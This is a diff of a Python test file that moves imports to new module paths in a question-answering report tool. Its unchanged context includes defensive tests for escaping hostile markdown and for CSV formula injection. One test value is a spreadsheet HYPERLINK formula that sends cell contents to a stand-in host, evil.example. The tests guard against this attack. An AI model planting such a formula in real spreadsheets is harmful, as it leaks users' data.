@@ -66,7 +66,7 @@ def test_real_answer_renders(essay_engine):
 
 
 def test_report_is_self_contained_escaped_and_misses_first():
-    from qa.questions import EvalQuestion
+    from qa.evaluation.questions import EvalQuestion
     from qa.report import results_csv, results_html
 
     good = passage("Right answer here.", (0, 18))
@@ -156,7 +156,7 @@ def test_document_view_marks_passage_across_paragraphs(essay_doc):
 
 
 def test_document_view_escapes_hostile_reading(tmp_path):
-    from qa.reader import read_document
+    from qa.reading.corpus import read_document
 
     src = tmp_path / "evil.md"
     src.write_text(f"# {EVIL}\n\nBody {EVIL} text.[^1]\n\n[^1]: {EVIL}\n", encoding="utf-8")
@@ -185,7 +185,7 @@ def test_results_csv_cells_never_start_a_formula(start):
     import csv
     import io
 
-    from qa.questions import EvalQuestion
+    from qa.evaluation.questions import EvalQuestion
     from qa.report import results_csv
 
     evil = f'{start}HYPERLINK("http://evil.example/?leak="&A1,"click")'
